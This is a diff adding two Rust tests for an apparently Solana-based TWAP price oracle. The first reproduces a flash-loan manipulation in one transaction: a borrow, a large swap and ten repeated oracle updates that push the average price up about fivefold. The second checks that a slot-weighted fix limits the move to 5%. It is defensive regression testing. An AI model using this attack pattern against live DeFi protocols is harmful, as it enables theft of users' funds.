@@ -0,0 +1,61 @@
+#[tokio::test]
+async fn test_flash_loan_twap_exploit() {
+    println!("\n=== EXPLOIT: Filling The TWAP Window In One Transaction ===\n");
+
+    let mallory = Keypair::new();
+    let pool = create_pool(1_000_000, 1_000_000).await;
+    let oracle = create_oracle(&pool).await;
+    fill_history(&oracle, 10).await;
+    println!("1. TWAP: {}", consult(&oracle).await.unwrap());
+
+    println!("\n2. One transaction: flash loan, swap, update x10, consult");
+    let ixs = [
+        vec![flash_borrow_ix(&mallory, 1_236_000)],
+        vec![swap_b_for_a_ix(&pool, &mallory, 1_236_000)],
+        vec![update_ix(&oracle, &pool); 10],
+    ]
+    .concat();
+    send_tx(&ixs, &[&mallory]).await.unwrap();
+
+    // Vulnerable: every observation is the manipulated price
+    let twap = consult(&oracle).await.unwrap();
+    println!("   TWAP after: {}", twap);
+    assert!(twap > 4 * PRICE_SCALE as u64);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ TWAP moved ~5x inside a single transaction");
+}
+
+#[tokio::test]
+async fn test_slot_weighted_twap() {
+    println!("\n=== SECURITY: Slot-Weighted TWAP ===\n");
+
+    let mallory = Keypair::new();
+    let pool = create_pool(1_000_000, 1_000_000).await;
+    let oracle = create_oracle(&pool).await;
+
+    println!("1. Consult with < 300 slots of history");
+    assert!(consult(&oracle).await.is_err());
+    println!("   ✓ Error: Not enough history for the minimum TWAP window");
+
+    for _ in 0..20 {
+        warp_slots(OBSERVATION_INTERVAL_SLOTS).await;
+        update(&oracle, &pool).await.unwrap();
+    }
+    let before = consult(&oracle).await.unwrap();
+
+    println!("\n2. Same flash-loan transaction with 10 updates");
+    let ixs = [
+        vec![flash_borrow_ix(&mallory, 1_236_000)],
+        vec![swap_b_for_a_ix(&pool, &mallory, 1_236_000)],
+        vec![update_ix(&oracle, &pool); 10],
+    ]
+    .concat();
+    send_tx(&ixs, &[&mallory]).await.unwrap();
+
+    let after = consult(&oracle).await.unwrap();
+    println!("   TWAP before {}, after {}", before, after);
+    let moved_bps = after.abs_diff(before) as u128 * 10_000 / before as u128;
+    assert!(moved_bps <= MAX_PRICE_CHANGE_BPS as u128);
+    println!("   ✓ One slot's price weighted as one slot, clamped to 5%");
+}